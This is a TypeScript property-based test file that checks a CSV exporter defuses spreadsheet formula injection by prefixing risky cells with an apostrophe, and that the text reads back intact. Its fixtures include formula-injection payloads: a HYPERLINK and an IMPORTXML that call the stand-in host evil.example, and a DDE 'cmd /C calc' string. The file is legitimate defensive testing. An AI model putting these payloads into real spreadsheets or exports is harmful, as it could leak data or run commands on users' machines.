/**
 * CSV exports must not run formulas when opened in a spreadsheet: any cell a spreadsheet would read
 * as a formula (=, +, -, @, tab, CR first — also after leading spaces, which Google Sheets and
 * LibreOffice trim on import) is defused with a leading apostrophe, and every cell reads back intact.
 */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvCell, parseCsv, toCsv } from '../../utils/export/csv';

const FORMULA = /^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;

const risky = fc.oneof(
  fc.constantFrom('=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', ' =1+1', '  @x', '\u00a0=1', '＝1+1', '=', '-', 'Лукашенко =1', '"=1"'),
  fc.string({ maxLength: 30 }),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', ' =', '\t', '\r\n'), fc.string({ maxLength: 20 })).map(([a, b]) => a + b),
);

describe('CSV formula injection', () => {
  test('no cell of an exported row starts like a formula; the text itself survives', () => {
    fc.assert(
      fc.property(risky, (value) => {
        const cell = csvCell(value);
        const [[parsed]] = parseCsv(`${cell}\r\n`);
        expect(FORMULA.test(parsed), JSON.stringify(parsed)).toBe(false);
        expect(parsed === value || parsed === `'${value}`).toBe(true);
      }),
      { numRuns: 400 },
    );
  });

  test('a whole export with hostile quote, note and tags reads back defused', () => {
    const clip = {
      id: 'clp_1', sourceId: 'src_1', quote: '=IMPORTXML("http://evil.example","//a")', note: '+cmd', tags: ['@tag', '-x'], selector: [],
      speaker: ' =1+1', date: '2025-11-24', actorIds: [], createdAt: Date.UTC(2025, 10, 24), updatedAt: 0, deleted: 0 as const,
    };
    const csv = toCsv([{ clip, source: undefined, actors: [{ id: 'a', name: '@Зеленський', kind: 'person' }] } as never]);
    const [, row] = parseCsv(csv);
    for (const cell of row) expect(FORMULA.test(cell), cell).toBe(false);
  });
});
